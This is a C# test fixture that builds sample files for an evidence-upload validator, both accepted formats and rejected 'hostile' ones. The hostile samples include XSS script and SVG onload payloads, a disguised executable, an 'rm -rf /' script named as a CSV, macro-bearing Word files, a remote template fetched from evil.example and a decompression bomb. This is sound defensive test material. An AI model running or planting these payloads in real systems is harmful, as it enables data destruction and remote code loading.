using System.IO.Compression;
using System.Text;

namespace LondonVRU.IntegrationTests.Evidence;

/// <summary>Files of every kind that is taken, as small as they can be, and of kinds that are not.</summary>
internal static class Files
{
    public static byte[] Pdf { get; } = Bytes("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    /// <summary>A square of one point.</summary>
    public static byte[] Png { get; } = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    public static byte[] Jpeg { get; } = [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9];

    public static byte[] Gif { get; } = [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0, 0x3B];

    public static byte[] WebP { get; } = [.. "RIFF"u8, 12, 0, 0, 0, .. "WEBPVP8 "u8, 0, 0, 0, 0];

    public static byte[] Csv { get; } = Bytes("Month,Arches,Knives\nOctober,4,1\nNovember,6,0\n");

    public static byte[] Email { get; } = Bytes("From: a@council.example\r\nTo: b@council.example\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\nSubject: The visit\r\n\r\nWe went on Monday.\r\n");

    public static byte[] Docx { get; } = Office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");

    public static byte[] Xlsx { get; } = Office("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");

    public static byte[] Pptx { get; } = Office("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml");

    public static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    /// <param name="parts">Beside the main one: names and contents.</param>
    public static byte[] Office(string main, string type, params (string Name, string Content)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Put(zip, "[Content_Types].xml", $"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{main}" ContentType="{type}"/></Types>""");
            Put(zip, "_rels/.rels", $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>""");
            Put(zip, main, "<document/>");
            foreach (var (name, content) in parts)
            {
                Put(zip, name, content);
            }
        }

        return stream.ToArray();
    }

    /// <param name="name">Of the hostile file, as its sender calls it.</param>
    public static byte[] Hostile(string name) => name switch
    {
        "picture.png" => Bytes("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        "drawing.svg" => Bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "note.txt" => Bytes("Words first, and then\n<script>alert(1)</script>"),
        "minutes.pdf.exe" => [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF],
        "run.csv" => Bytes("#!/bin/sh\nrm -rf /\n"),
        "macro.docx" => Office("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "hidden-macro.docx" => Office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", ("word/vbaProject.bin", "Sub AutoOpen()")),
        "template.docx" => Office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", ("word/_rels/settings.xml.rels",
            """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>""")),
        "bomb.docx" => Office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", ("word/media/image1.bmp", new string('a', 80_000_000))),
        "cut.docx" => Docx[..(Docx.Length / 2)],
        "photos.zip" => Zip(),
        "old.doc" => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]],
        "locked.docx" => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512], .. Encoding.Unicode.GetBytes("EncryptedPackage")],
        "nothing.pdf" => [],
        "noise.pdf" => [1, 2, 3, 4, 5, 6, 7, 0, 0, 0, 14, 15, 16],
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    private static byte[] Zip()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Put(zip, "one.jpg", "x");
        }

        return stream.ToArray();
    }

    private static void Put(ZipArchive zip, string name, string content)
    {
        using var entry = new StreamWriter(zip.CreateEntry(name, CompressionLevel.SmallestSize).Open());
        entry.Write(content);
    }
}
